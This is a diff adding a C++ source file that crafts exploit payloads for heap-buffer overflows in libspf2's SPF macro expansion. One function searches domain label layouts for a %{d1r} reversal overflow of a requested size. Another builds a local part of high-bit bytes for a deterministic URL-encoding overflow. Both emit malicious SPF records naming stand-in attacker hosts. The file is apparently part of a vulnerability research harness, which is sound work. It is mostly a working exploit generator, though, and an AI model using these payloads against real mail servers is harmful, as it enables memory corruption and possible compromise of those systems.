@@ -1,0 +1,90 @@
+#include "spfvuln/payload.hpp"
+
+#include <stdexcept>
+
+namespace spfail::spfvuln {
+
+namespace {
+
+spf::MacroItem d1r_item() {
+  spf::MacroItem item;
+  item.letter = 'd';
+  item.keep = 1;
+  item.reverse = true;
+  return item;
+}
+
+// A domain of `label_count` labels, each `label_len` octets, ending in a
+// short TLD. Total presentation length must stay <= 253.
+std::string make_domain(std::size_t label_count, std::size_t label_len) {
+  std::string domain;
+  for (std::size_t i = 0; i < label_count; ++i) {
+    domain.append(label_len, static_cast<char>('a' + (i % 26)));
+    domain.push_back('.');
+  }
+  domain += "io";
+  return domain;
+}
+
+}  // namespace
+
+CraftedPayload craft_reversal_payload(std::size_t min_overflow_bytes) {
+  // Overflow for %{d1r} over a domain with labels L0..Ln-1 (kept = Ln-1):
+  //   written   = joined(all dropped) + 1 + joined(all)
+  //   allocated = len(kept)
+  // so overflow grows with the total length of the dropped labels. Search
+  // label geometries from small to large until the prediction clears the
+  // request, staying inside the 253-octet name limit.
+  const spf::MacroItem item = d1r_item();
+  for (std::size_t label_len = 1; label_len <= 60; ++label_len) {
+    for (std::size_t labels = 2; labels <= 60; ++labels) {
+      const std::string domain = make_domain(labels, label_len);
+      if (domain.size() > 253) break;
+      const ExpansionReport report = libspf2_expand_item(item, domain);
+      if (report.overflow_bytes >= min_overflow_bytes) {
+        CraftedPayload payload;
+        payload.attacker_domain = domain;
+        payload.spf_record = "v=spf1 a:%{d1r}.attacker-ns.example -all";
+        payload.predicted = report;
+        return payload;
+      }
+    }
+  }
+  throw std::invalid_argument(
+      "craft_reversal_payload: " + std::to_string(min_overflow_bytes) +
+      " bytes exceeds what a 253-octet domain can trigger (" +
+      std::to_string(max_reversal_overflow()) + ")");
+}
+
+CraftedPayload craft_urlencode_payload(std::size_t high_bit_characters) {
+  spf::MacroItem item;
+  item.letter = 'l';
+  item.url_escape = true;
+
+  // Each high-bit byte costs 9 emitted characters against a 3-character
+  // budget: 6 bytes of overflow apiece, deterministic.
+  std::string local_part = "a";
+  local_part.append(high_bit_characters, '\xFE');
+
+  CraftedPayload payload;
+  payload.attacker_domain = "attacker.example";
+  payload.spf_record = "v=spf1 exists:%{L}.probe.attacker.example -all";
+  payload.predicted = libspf2_expand_item(item, local_part);
+  return payload;
+}
+
+std::size_t max_reversal_overflow() {
+  std::size_t best = 0;
+  const spf::MacroItem item = d1r_item();
+  for (std::size_t label_len = 1; label_len <= 63; ++label_len) {
+    for (std::size_t labels = 2; labels <= 120; ++labels) {
+      const std::string domain = make_domain(labels, label_len);
+      if (domain.size() > 253) break;
+      const ExpansionReport report = libspf2_expand_item(item, domain);
+      best = std::max(best, report.overflow_bytes);
+    }
+  }
+  return best;
+}
+
+}  // namespace spfail::spfvuln
